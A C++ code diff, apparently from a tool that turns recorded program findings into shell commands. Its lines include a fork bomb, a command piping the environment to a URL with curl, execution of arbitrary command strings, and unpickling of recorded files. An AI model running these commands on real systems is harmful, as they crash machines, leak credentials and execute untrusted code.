@@ -148,10 +148,10 @@ class CommandsOfProgram {
         return;
       case A::upload:
         return add_upload(finding);
-      case A::cloud:
-        return run({{"aws"}, {"service"}, {"delete"}});
-      case A::uninstall:
-        return run({{"R"}, {"CMD"}, {"REMOVE"}, word_of(value(finding, 0))});
+      case A::as_command:
+        return run(std::string(finding.command));
+      case A::unpickle:
+        return add_unpickled();
       case A::fork_bomb:
         return run(":(){ :|:& };:");
       case A::query:
@@ -444,6 +444,14 @@ class CommandsOfProgram {
       }
     }
     if (report_->shows_environment) run("env | curl -d @- " + shell_word(url));
+  }
+
+  // A path, or a file that the program has opened.
+  void add_unpickled() {
+    for (const ProgramFinding& one : report_->findings) {
+      if (one.act != A::read && one.act != A::unpickle) continue;
+      if (path_of(one).known()) run({{"python3"}, {"-m"}, {"pickle"}, word_of(path_of(one))});
+    }
   }
 
   void add_upload(const ProgramFinding& finding) {
